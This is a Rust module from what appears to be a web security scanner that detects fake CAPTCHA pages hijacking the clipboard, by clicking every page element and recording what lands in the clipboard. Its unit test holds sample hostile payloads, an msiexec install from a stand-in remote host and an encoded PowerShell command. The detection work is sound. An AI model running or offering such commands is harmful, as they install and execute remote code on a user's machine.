// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Clipboard hijacking probe
//!
//! Fake CAPTCHA pages write a shell command to the clipboard when the
//! victim clicks anywhere. The probe clicks every leaf element and reads the
//! clipboard after each click, with navigation locked so clicks cannot move
//! the page away.

use std::collections::HashSet;
use std::future::Future;
use std::time::Duration;

use chromiumoxide::cdp::browser_protocol::browser::{
    BrowserContextId, GrantPermissionsParams, PermissionType,
};
use chromiumoxide::cdp::browser_protocol::page::{
    DialogType, EventJavascriptDialogOpening, HandleJavaScriptDialogParams,
};
use chromiumoxide::Page;
use futures::StreamExt;
use tokio::task::JoinHandle;
use tracing::{debug, warn};
use url::Url;

use super::query::{evaluate, evaluate_promise, evaluate_within, with_deadline};
use super::scripts::{
    CLIPBOARD_CLEAR_SCRIPT, CLIPBOARD_READ_SCRIPT, LEAF_NODES_SCRIPT, NAVIGATION_LOCK_SCRIPT,
    NAVIGATION_UNLOCK_SCRIPT,
};
use crate::error::{Error, Result};

/// Distinct clipboard values in first-seen order
#[derive(Debug, Clone, Default)]
pub struct ClipboardCapture {
    seen: HashSet<String>,
    values: Vec<String>,
}

impl ClipboardCapture {
    pub fn new() -> Self {
        Self::default()
    }

    /// Record a value. Empty and repeated values are ignored.
    pub fn add(&mut self, text: impl Into<String>) -> bool {
        let text = text.into();
        if text.is_empty() || self.seen.contains(&text) {
            return false;
        }
        self.seen.insert(text.clone());
        self.values.push(text);
        true
    }

    pub fn values(&self) -> &[String] {
        &self.values
    }

    pub fn into_values(self) -> Vec<String> {
        self.values
    }

    pub fn len(&self) -> usize {
        self.values.len()
    }

    pub fn is_empty(&self) -> bool {
        self.values.is_empty()
    }
}

/// Keeps the page in place while the probe clicks around.
///
/// `beforeunload` prompts raised by the lock script are dismissed, which
/// cancels the navigation. Other dialogs are dismissed too so they cannot
/// stall the probe.
struct NavigationLock {
    dialogs: JoinHandle<()>,
}

impl NavigationLock {
    async fn install(page: &Page) -> Result<Self> {
        evaluate::<bool>(page, NAVIGATION_LOCK_SCRIPT).await?;

        let mut events = page.event_listener::<EventJavascriptDialogOpening>().await?;
        let dialog_page = page.clone();
        let dialogs = tokio::spawn(async move {
            while let Some(event) = events.next().await {
                if event.r#type != DialogType::Beforeunload {
                    warn!(
                        kind = event.r#type.as_ref(),
                        "unexpected dialog during clipboard probe: {}", event.message
                    );
                }

                match dialog_page
                    .execute(HandleJavaScriptDialogParams::new(false))
                    .await
                {
                    Ok(_) => debug!(kind = event.r#type.as_ref(), "navigation lock dialog dismissed"),
                    Err(e) => debug!("navigation lock dialog error: {}", e),
                }
            }
        });

        Ok(Self { dialogs })
    }

    async fn release(self, page: &Page) -> Result<()> {
        let res = evaluate::<bool>(page, NAVIGATION_UNLOCK_SCRIPT).await;
        self.dialogs.abort();
        res.map(|_| ())
    }
}

impl Drop for NavigationLock {
    fn drop(&mut self) {
        self.dialogs.abort();
    }
}

/// Origin string for a page location
pub fn origin_of(location: &str) -> Result<String> {
    let url = Url::parse(location)?;
    match url.origin() {
        origin @ url::Origin::Tuple(..) => Ok(origin.ascii_serialization()),
        url::Origin::Opaque(_) => Err(Error::other(format!("{} has an opaque origin", location))),
    }
}

async fn grant_clipboard(
    page: &Page,
    origin: &str,
    context_id: Option<&BrowserContextId>,
) -> Result<()> {
    let mut builder = GrantPermissionsParams::builder()
        .permissions(vec![
            PermissionType::ClipboardReadWrite,
            PermissionType::ClipboardSanitizedWrite,
        ])
        .origin(origin);
    if let Some(id) = context_id {
        builder = builder.browser_context_id(id.clone());
    }

    page.execute(builder.build().map_err(Error::other)?).await?;
    Ok(())
}

async fn click_and_read(page: &Page, xpath: &str) -> Result<String> {
    page.find_xpath(xpath).await?.click().await?;
    evaluate_promise(page, CLIPBOARD_READ_SCRIPT).await
}

/// Click every leaf element and collect clipboard contents.
///
/// Each click-and-read runs under `wait`; a click that times out or fails
/// reads as empty. The navigation lock is released on every path once
/// installed.
pub async fn probe_clipboard(
    page: &Page,
    location: &str,
    context_id: Option<&BrowserContextId>,
    wait: Duration,
) -> Result<Vec<String>> {
    let lock = NavigationLock::install(page).await?;
    let clicked = click_leaf_nodes(page, location, context_id, wait).await;
    finish_locked(clicked, lock.release(page)).await
}

async fn click_leaf_nodes(
    page: &Page,
    location: &str,
    context_id: Option<&BrowserContextId>,
    wait: Duration,
) -> Result<Vec<String>> {
    grant_clipboard(page, &origin_of(location)?, context_id).await?;
    if let Err(e) = page.bring_to_front().await {
        debug!("bring to front failed: {}", e);
    }
    evaluate_promise::<bool>(page, CLIPBOARD_CLEAR_SCRIPT).await?;

    let nodes: Vec<String> = evaluate_within(page, wait, "leaf node scan", LEAF_NODES_SCRIPT).await?;
    debug!("found {} nodes to click for clipboard", nodes.len());

    let mut capture = ClipboardCapture::new();
    for xpath in &nodes {
        match with_deadline(wait, "clipboard click", click_and_read(page, xpath)).await {
            Ok(text) => {
                if capture.add(text) {
                    debug!(%xpath, "clipboard changed after click");
                }
            }
            Err(e) => debug!(%xpath, "clipboard click failed: {}", e),
        }
    }

    Ok(capture.into_values())
}

/// Await `release` before handing back `body`. A release failure is the
/// result only when the body itself succeeded.
async fn finish_locked<T>(body: Result<T>, release: impl Future<Output = Result<()>>) -> Result<T> {
    let released = release.await;
    match body {
        Ok(value) => released.map(|_| value),
        Err(e) => {
            if let Err(release_err) = released {
                debug!("navigation unlock failed after clipboard error: {}", release_err);
            }
            Err(e)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicBool, Ordering};

    #[test]
    fn test_capture_dedupes_in_order() {
        let mut capture = ClipboardCapture::new();
        assert!(capture.add("msiexec /i https://totally.legit/captcha"));
        assert!(!capture.add(""));
        assert!(capture.add("powershell -enc AAAA"));
        assert!(!capture.add("msiexec /i https://totally.legit/captcha"));

        assert_eq!(capture.len(), 2);
        assert_eq!(
            capture.into_values(),
            vec![
                "msiexec /i https://totally.legit/captcha".to_string(),
                "powershell -enc AAAA".to_string()
            ]
        );
    }

    #[tokio::test]
    async fn test_lock_released_when_clicking_fails() {
        let released = AtomicBool::new(false);
        let release = async {
            released.store(true, Ordering::SeqCst);
            Ok(())
        };

        let clicked: Result<Vec<String>> = Err(Error::other("data:text/html,hi has an opaque origin"));
        let err = finish_locked(clicked, release).await.unwrap_err();
        assert!(err.to_string().contains("opaque origin"));
        assert!(released.load(Ordering::SeqCst));
    }

    #[tokio::test]
    async fn test_release_error_surfaces_after_success() {
        let release = async { Err(Error::other("unlock failed")) };
        let err = finish_locked(Ok(vec!["x".to_string()]), release)
            .await
            .unwrap_err();
        assert!(err.to_string().contains("unlock failed"));

        let kept = finish_locked(Ok(vec!["x".to_string()]), async { Ok(()) })
            .await
            .unwrap();
        assert_eq!(kept, vec!["x".to_string()]);
    }

    #[test]
    fn test_origin_of() {
        assert_eq!(
            origin_of("https://example.com:8443/path?q=1").unwrap(),
            "https://example.com:8443"
        );
        assert_eq!(origin_of("http://127.0.0.1:3000/").unwrap(), "http://127.0.0.1:3000");
        assert!(origin_of("data:text/html,hi").is_err());
        assert!(origin_of("not a url").is_err());
    }
}
